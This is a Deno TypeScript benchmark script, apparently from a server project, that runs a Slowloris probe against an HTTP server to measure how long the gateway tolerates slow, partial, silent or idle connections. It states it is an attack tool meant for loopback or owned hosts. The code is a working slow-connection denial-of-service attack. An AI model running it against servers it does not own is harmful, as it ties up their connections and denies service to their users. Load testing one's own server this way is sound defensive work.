/**
 * Slowloris probe: opens connections to an HTTP server and misbehaves on each one, then reports
 * how long the server let each connection live. Used to measure the request-head timeout of the
 * gateway and the control plane (SECURITY.md, "Hostile peers").
 *
 * Modes (one per connection, round robin over the ones asked for):
 * - `trickle`: sends a request line, then one header line every `--interval-ms`, never the
 *   empty line that ends the head;
 * - `half`: sends half a request head at once, then nothing;
 * - `silent`: connects and sends nothing;
 * - `idle`: sends one complete request, reads the answer, then keeps the connection idle.
 *
 * ```sh
 * deno run --allow-net bench/slowloris.ts --url http://127.0.0.1:41002 --connections 60 \
 *   --modes trickle,half,silent,idle --interval-ms 1000 --max-seconds 120
 * ```
 *
 * Prints one line per mode: connections, how many the server closed, and the min / median / max
 * time from connect to close (connections still open at `--max-seconds` are counted as open).
 * Loopback or a host you own only: it is an attack tool.
 *
 * @module
 */

type Mode = "trickle" | "half" | "silent" | "idle";

interface Args {
  url: URL;
  connections: number;
  modes: Mode[];
  intervalMs: number;
  maxSeconds: number;
}

function parseArgs(argv: string[]): Args {
  const get = (name: string, fallback: string) => {
    const i = argv.indexOf(`--${name}`);
    return i >= 0 && argv[i + 1] !== undefined ? argv[i + 1] : fallback;
  };
  if (argv.includes("--help")) {
    console.log(
      "deno run --allow-net bench/slowloris.ts --url <http://host:port> [--connections 40] " +
        "[--modes trickle,half,silent,idle] [--interval-ms 1000] [--max-seconds 60]",
    );
    Deno.exit(0);
  }
  const url = new URL(get("url", "http://127.0.0.1:41002"));
  if (url.protocol !== "http:") throw new Error("--url must be http:// (the probe speaks plain TCP)");
  const modes = get("modes", "trickle,half,silent,idle").split(",").map((m) => m.trim()) as Mode[];
  for (const m of modes) {
    if (!["trickle", "half", "silent", "idle"].includes(m)) throw new Error(`unknown mode ${m}`);
  }
  return {
    url,
    connections: Number(get("connections", "40")),
    modes,
    intervalMs: Number(get("interval-ms", "1000")),
    maxSeconds: Number(get("max-seconds", "60")),
  };
}

const enc = new TextEncoder();

/** Misbehaves on one connection; resolves with the ms until the server closed it, or null if it did not. */
async function probe(args: Args, mode: Mode, deadline: number): Promise<number | null> {
  const port = Number(args.url.port || 80);
  const conn = await Deno.connect({ hostname: args.url.hostname, port });
  const started = performance.now();
  const host = `host: ${args.url.host}\r\n`;
  let closedAt: number | null = null;
  // The server closing the connection shows as a read returning null (or failing).
  const reading = (async () => {
    const buf = new Uint8Array(4096);
    try {
      while ((await conn.read(buf)) !== null) {
        // answers (idle mode) are read and dropped
      }
    } catch {
      // reset by the server
    }
    closedAt = performance.now();
  })();
  const write = (text: string) => conn.write(enc.encode(text)).catch(() => 0);
  let timer: ReturnType<typeof setTimeout> | undefined;
  const until = new Promise<void>((r) => timer = setTimeout(r, Math.max(0, deadline - performance.now())));
  if (mode === "half") await write(`POST /v1/chat/completions HTTP/1.1\r\n${host}content-ty`);
  if (mode === "idle") await write(`GET /healthz HTTP/1.1\r\n${host}\r\n`);
  let ticker: ReturnType<typeof setInterval> | undefined;
  if (mode === "trickle") {
    await write(`POST /v1/chat/completions HTTP/1.1\r\n${host}`);
    let n = 0;
    ticker = setInterval(() => write(`x-slow-${n++}: ${"a".repeat(16)}\r\n`), args.intervalMs);
  }
  await Promise.race([reading, until]);
  clearTimeout(timer);
  if (ticker !== undefined) clearInterval(ticker);
  try {
    conn.close();
  } catch {
    // closed by the server
  }
  await reading;
  return closedAt !== null && closedAt < deadline ? closedAt - started : null;
}

function summary(mode: Mode, results: (number | null)[], maxSeconds: number): string {
  const closed = results.filter((r): r is number => r !== null).sort((a, b) => a - b);
  const s = (ms: number | undefined) => ms === undefined ? "-" : `${(ms / 1000).toFixed(2)} s`;
  return `${mode.padEnd(8)} connections ${String(results.length).padStart(4)}  closed by server ${
    String(closed.length).padStart(4)
  }  still open after ${maxSeconds} s ${String(results.length - closed.length).padStart(4)}  ` +
    `time to close min ${s(closed[0])} median ${s(closed[Math.floor(closed.length / 2)])} max ${
      s(closed.at(-1))
    }`;
}

if (import.meta.main) {
  const args = parseArgs(Deno.args);
  const deadline = performance.now() + args.maxSeconds * 1000;
  const byMode = new Map<Mode, Promise<number | null>[]>();
  for (let i = 0; i < args.connections; i++) {
    const mode = args.modes[i % args.modes.length];
    const list = byMode.get(mode) ?? [];
    list.push(probe(args, mode, deadline));
    byMode.set(mode, list);
  }
  console.log(
    `slowloris against ${args.url.host}: ${args.connections} connections, ${args.maxSeconds} s max`,
  );
  for (const [mode, list] of byMode) console.log(summary(mode, await Promise.all(list), args.maxSeconds));
}
